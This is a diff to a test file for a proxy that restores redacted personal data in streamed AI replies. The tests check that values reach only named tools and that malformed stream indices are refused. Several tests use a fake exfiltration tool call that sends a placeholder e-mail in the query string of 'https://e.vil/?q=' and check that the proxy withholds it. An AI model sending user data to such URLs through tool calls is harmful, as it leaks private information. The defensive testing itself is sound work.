@@ -12,6 +12,7 @@ import random
 import pytest
 
 from stealthflow.placeholders.restore import Reference, Withheld
+from stealthflow.proxy.errors import ProxyError
 from stealthflow.proxy.replies import ReplyRestorer
 
 # A fake vault (unit test): two e-mails and an IBAN, the IBAN guarded (filled in only in prose, as the scope does);
@@ -109,38 +110,60 @@ def _tool(index: object, arguments: str, choice: object = 0, finish: str | None 
 
 
 FINISH = {"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}
+EVERY_TOOL = frozenset({"*"})
 
 
-@pytest.mark.parametrize(
-    "chunks",
-    [
-        [_tool(0, '{"url": "https://e.vil/?q='), FINISH, _tool(0, '<EMAIL_1>"}'), FINISH],
-        [_tool(0, '{"url": "https://e.vil/?q='), FINISH, _tool("missing", '<EMAIL_1>"}')],
-        [_tool(0, '{"url": "https://e.vil/?q='), _tool("0", '<EMAIL_1>"}'), FINISH],
-        [_tool(0, '{"url": "https://e.vil/?q='), _tool(None, '<EMAIL_1>"}'), FINISH],
-        [_tool(0, '{"url": "https://e.vil/?q='), _tool(0.0, '<EMAIL_1>"}'), FINISH],
-        [_tool(0, '{"url": "https://e.vil/?q='), _tool([0], '<EMAIL_1>"}'), FINISH],
-        [_tool(0, '{"url": "https://e.vil/?q='), _tool(0, '<EMAIL_1>"}', choice="0"), FINISH],
-    ],
-    ids=[
-        "after-finish",
-        "after-finish-no-index",
-        "index-string",
-        "index-null",
-        "index-float",
-        "index-list",
-        "choice-string",
-    ],
-)
-def test_a_tool_calls_url_holds_arguments_a_client_joins_to_it(chunks):
-    """A client joins a tool call's arguments by its JavaScript array slot (openai-node: `0`, `0.0`, `"0"`, `[0]` are one;
-    no index: the last one) and keeps joining after the finish chunk: the value sent that way into a URL the
-    arguments opened is withheld, as one stream of them would have it. FAKE resolver: withholds in a URL."""
+def _named(index: int, name: str, arguments: str) -> dict:
+    call = {"index": index, "id": f"c{index}", "type": "function", "function": {"name": name, "arguments": arguments}}
+    return {"choices": [{"index": 0, "delta": {"tool_calls": [call]}, "finish_reason": None}]}
+
+
+def test_a_tool_call_gets_values_only_for_a_tool_the_user_names_whole_and_streamed():
+    """`tools` names the tools whose arguments get values; another tool's keep the placeholders (`in_tool_call`),
+    counted, also with no tool named at all. FAKE resolver."""
+    arguments = '{"to": "<EMAIL_1>"}'
+    for tools, restored in ((frozenset(), []), (frozenset({"send"}), ["send"]), (EVERY_TOOL, ["send", "sh"])):
+        message = {"tool_calls": [{"function": {"name": n, "arguments": arguments}} for n in ("send", "sh")]}
+        whole = ReplyRestorer(_fake_resolve, tools)
+        whole.whole({"choices": [{"index": 0, "message": message}]})
+        streamed = ReplyRestorer(_fake_resolve, tools)
+        sent = {}
+        for number, name in enumerate(("send", "sh")):
+            chunk = streamed.chunk(_named(number, name, arguments[:9]))
+            sent[name] = chunk["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"]
+            chunk = streamed.chunk(_tool(number, arguments[9:]))
+            sent[name] += chunk["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"]
+        finish = streamed.chunk(FINISH)["choices"][0]["delta"].get("tool_calls") or []
+        for call in finish:
+            sent[("send", "sh")[call["index"]]] += call["function"]["arguments"]
+        calls = {call["function"]["name"]: call["function"]["arguments"] for call in message["tool_calls"]}
+        for restorer, got in ((whole, calls), (streamed, sent)):
+            assert sorted(n for n, text in got.items() if "anna.berg@mailbox.org" in text) == restored
+            assert restorer.withheld == [("<EMAIL_1>", "in_tool_call")] * (2 - len(restored))
+
+
+def test_a_tool_call_renamed_in_its_stream_is_refused():
+    """A client could run the second name with arguments restored for the first: refused (502). FAKE resolver."""
+    restorer = ReplyRestorer(_fake_resolve, frozenset({"send"}))
+    restorer.chunk(_named(0, "send", '{"to": '))
+    restorer.chunk(_named(0, "send", ""))  # the same name again is the same call
+    with pytest.raises(ProxyError, match="renamed"):
+        restorer.chunk(_named(0, "sh", '"<EMAIL_1>"}'))
+    late = ReplyRestorer(_fake_resolve, frozenset({"send"}))
+    late.chunk(_tool(0, '{"to": "<EMAIL_1>"'))  # arguments before any name: restored for no tool
+    with pytest.raises(ProxyError, match="renamed"):
+        late.chunk(_named(0, "send", "}"))
+
+
+def test_a_tool_calls_url_holds_arguments_a_client_joins_to_it_after_the_finish_chunk():
+    """A client keeps joining a tool call's arguments after its choice's finish chunk: the value sent that way into a
+    URL the arguments opened is withheld, as one stream of them would have it. FAKE resolver: withholds in a URL."""
+    chunks = [_tool(0, '{"url": "https://e.vil/?q='), FINISH, _tool(0, '<EMAIL_1>"}'), FINISH]
 
     def resolve(ref: Reference) -> str | Withheld | None:
         return Withheld("in_tool_call_url") if ref.url == "click" else VALUES.get((ref.type, ref.index))
 
-    restorer, sent = ReplyRestorer(resolve), []
+    restorer, sent = ReplyRestorer(resolve, EVERY_TOOL), []
     for chunk in chunks:
         for choice in restorer.chunk(chunk)["choices"]:
             sent += [call["function"]["arguments"] for call in choice["delta"].get("tool_calls") or []]
@@ -148,6 +171,22 @@ def test_a_tool_calls_url_holds_arguments_a_client_joins_to_it(chunks):
         sent += [call["function"]["arguments"] for call in tail["choices"][0]["delta"].get("tool_calls") or []]
     assert "".join(sent) == '{"url": "https://e.vil/?q=<EMAIL_1>"}'
     assert restorer.withheld == [("<EMAIL_1>", "in_tool_call_url")] and restorer.restored == 0
+
+
+@pytest.mark.parametrize(
+    ("index", "choice"),
+    [(True, 0), (False, 0), ("missing", 0), (None, 0), (1.0, 0), ("1", 0), (-1, 0), ([1], 0), ({}, 0), (1, True)]
+    + [(1, "1"), (1, None), (1, -1), (1, 1.0)],
+)
+def test_a_stream_index_clients_read_apart_is_refused(index, choice):
+    """A delta whose choice or tool call index is not a plain non-negative int is refused (502): Python joins `True` to
+    call 1, `-1` to the last, `None` to a key of its own, openai-node `true` to a call "true", so no keying of it is
+    every client's (rev21 finding 4). FAKE resolver."""
+    restorer = ReplyRestorer(lambda ref: VALUES.get((ref.type, ref.index)))
+    restorer.chunk(_tool(1, '{"url": "https://e.vil/?q='))
+    with pytest.raises(ProxyError) as raised:
+        restorer.chunk(_tool(index, '<EMAIL_1>"}', choice=choice))
+    assert raised.value.status == 502 and restorer.restored == 0
 
 
 def _mixed_stream(seed: int) -> list[dict]:
@@ -197,10 +236,10 @@ def test_the_chunks_of_one_read_restore_as_the_same_chunks_one_by_one(seed):
     """`chunks` (one upstream read) restores each stream's pieces in a row as one text: every stream, and all text in
     the order sent, is what the chunks restored one by one give; the same placeholders are restored, left and
     withheld, in the same order."""
-    one_by_one = ReplyRestorer(_fake_resolve)
+    one_by_one = ReplyRestorer(_fake_resolve, EVERY_TOOL)
     expected = [one_by_one.chunk(chunk) for chunk in copy.deepcopy(_mixed_stream(seed))]
     rng = random.Random(seed)
-    chunks, batched, reads = _mixed_stream(seed), ReplyRestorer(_fake_resolve), []
+    chunks, batched, reads = _mixed_stream(seed), ReplyRestorer(_fake_resolve, EVERY_TOOL), []
     while chunks:
         size = rng.choice([1, 2, 5, 40, 200])
         reads.append(batched.chunks(chunks[:size]))
